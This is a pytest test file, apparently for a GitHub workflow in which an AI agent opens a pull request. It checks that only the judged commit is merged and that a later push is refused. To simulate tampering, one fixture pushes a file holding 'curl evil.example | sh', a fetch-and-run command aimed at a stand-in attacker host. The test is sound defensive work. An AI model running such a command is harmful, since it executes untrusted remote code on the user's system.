"""The example that merges: the commit that was judged reaches ``gh pr merge``, and no later one is
merged.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.documents import claim
from tests.emulator import Emulator
from tests.github import TOKEN, GitHub, Look, Work, check
from tests.program import GitHubStep, executable

WORKFLOW: dict[str, Any] = yaml.safe_load(claim("examples/workflows/merge.yml").code)
GH = """#!/bin/sh
# gh, as far as it merges: it refuses when the head of the pull request is another commit.
[ "$1 $2 $4 $5" = "pr merge --squash --match-head-commit" ] || exit 2
[ "$6" = "$(cat {folder}/head)" ] || { echo "Head branch was modified" >&2; exit 1; }
echo "merged $3 at $6"
"""


@pytest.mark.slow
@pytest.mark.parametrize("is_pushed_later", [False, True])
def test_exactly_the_judged_commit_is_merged(tmp_path: Path, is_pushed_later: bool) -> None:
    agent, merge = WORKFLOW["jobs"]["agent"], WORKFLOW["jobs"]["merge"]
    with GitHub() as github, Emulator("success", speed=50) as emulator:
        github.works_for(emulator, Work(checks=Look([check("test", "success")])))
        given = {name: str(value) for name, value in agent["steps"][0]["with"].items()}
        known = {"api-key": emulator.token, "github-token": TOKEN, "prompt": "Fix it"}
        inputs = given | known | {"base-url": emulator.url}
        step = GitHubStep(tmp_path / "agent", inputs, {"GITHUB_API_URL": github.url})
        ended = step.run()
        assert ended.code == 0, ended.out
        branch = step.outputs["branch"]
        if is_pushed_later:
            github.push(branch, {"evil.sh": "curl evil.example | sh"})
        head = github.branches[branch]
    outputs = {
        f"${{{{ needs.agent.outputs.{name} }}}}": step.outputs[value.split(".")[-1].rstrip(" }")]
        for name, value in agent["outputs"].items()
    }
    (tmp_path / "head").write_text(head)
    executable(tmp_path / "bin" / "gh", GH.replace("{folder}", str(tmp_path)))
    script = merge["steps"][0]
    env = {name: outputs.get(value, "") for name, value in script["env"].items()}
    merged = subprocess.run(
        ["bash", "-e", "-c", script["run"]],
        env={"PATH": f"{tmp_path / 'bin'}:/usr/bin:/bin", **env},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (merged.returncode == 0) is not is_pushed_later
    pull_request = "https://github.com/acme/web/pull/42"
    said = f"merged {pull_request} at {head}\n"
    assert merged.stdout == ("" if is_pushed_later else said)
